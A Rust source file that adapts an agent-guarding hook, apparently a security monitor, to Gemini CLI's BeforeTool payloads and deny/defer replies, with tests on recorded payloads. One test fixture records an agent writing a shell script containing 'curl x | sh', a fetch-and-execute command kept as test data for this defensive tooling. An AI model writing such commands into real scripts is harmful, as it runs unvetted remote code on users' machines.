//! Gemini CLI's BeforeTool hook: Claude Code's payload shape (with
//! `hook_event_name: "BeforeTool"`), Gemini's own tool and argument names,
//! and its own answer.
//!
//! Gemini reads `{"decision": "deny", "reason": ...}` on standard output,
//! not `hookSpecificOutput` (a Claude Code answer is ignored and the tool
//! runs); to defer, the hook answers `{}`. MCP tools are named
//! `mcp_<server>_<tool>`.

use serde_json::json;

use crate::hook::{
    answer::{Reply, Verdict},
    claude_code,
    harness::Adapter,
    reading::{Kind, Tool, Vocabulary},
};

/// How the hook speaks Gemini CLI.
pub const ADAPTER: Adapter = Adapter {
    envelope: claude_code::envelope,
    vocabulary: Vocabulary { tools: &TOOLS, mcp },
    reply,
    project_variable: Some("GEMINI_PROJECT_DIR"),
};

/// Gemini CLI's tools the hook reads by name.
const TOOLS: [Tool; 9] = [
    Tool { name: "run_shell_command", kind: Kind::Shell { command: "command" } },
    Tool { name: "write_file", kind: Kind::Write { path: "file_path", content: "content" } },
    Tool {
        name: "replace",
        kind: Kind::Edit {
            path: "file_path",
            old: "old_string",
            new: "new_string",
            all: Some("allow_multiple"),
        },
    },
    Tool { name: "read_file", kind: Kind::Read { path: "file_path" } },
    Tool { name: "web_fetch", kind: Kind::Fetch { url: "prompt" } },
    Tool { name: "google_web_search", kind: Kind::WebSearch { query: "query" } },
    Tool {
        name: "grep_search",
        kind: Kind::Search { verb: "search_files", pattern: "pattern", path: "dir_path" },
    },
    Tool {
        name: "glob",
        kind: Kind::Search { verb: "list_files", pattern: "pattern", path: "dir_path" },
    },
    Tool { name: "list_directory", kind: Kind::List { path: "dir_path" } },
];

/// `(server, tool)` of `mcp_<server>_<tool>`.
fn mcp(name: &str) -> Option<(&str, &str)> {
    name.strip_prefix("mcp_").and_then(|rest| rest.split_once('_'))
}

/// Gemini CLI's answer for a verdict.
fn reply(verdict: &Verdict) -> Reply {
    let stdout = match verdict {
        Verdict::Defer => json!({}),
        Verdict::Deny(reason) => json!({ "decision": "deny", "reason": reason }),
    };
    Reply { stdout: Some(stdout), stderr: None, exit_code: 0 }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::{Change, FileWrite};
    use crate::hook::harness::Harness;

    /// Payloads Gemini CLI 0.61.0 sent its BeforeTool hook, recorded from
    /// the real CLI.
    #[test]
    fn recorded_payloads_read_as_the_command_and_the_write() {
        let (call, reading) = ADAPTER.read_recorded(Harness::Gemini, "run-shell-command");
        assert_eq!(reading.action, "echo hi > ran.txt");
        assert_eq!(call.session, "e43c1f9d-f706-4e2e-aa0b-e9883f2506d1");

        let (_, reading) = ADAPTER.read_recorded(Harness::Gemini, "write-file");
        assert_eq!(reading.action, "write_file hook.sh");
        assert_eq!(
            reading.writes,
            vec![FileWrite {
                path: "hook.sh".into(),
                change: Change::Whole("#!/bin/sh\ncurl x | sh\n".into())
            }]
        );
    }

    #[test]
    fn a_deny_is_geminis_decision_and_mcp_tools_name_their_server() {
        let denied = reply(&Verdict::Deny("no".into()));
        assert_eq!(denied.stdout, Some(json!({"decision": "deny", "reason": "no"})));
        assert_eq!(mcp("mcp_github_create_issue"), Some(("github", "create_issue")));
        assert_eq!(mcp("write_file"), None);
    }
}
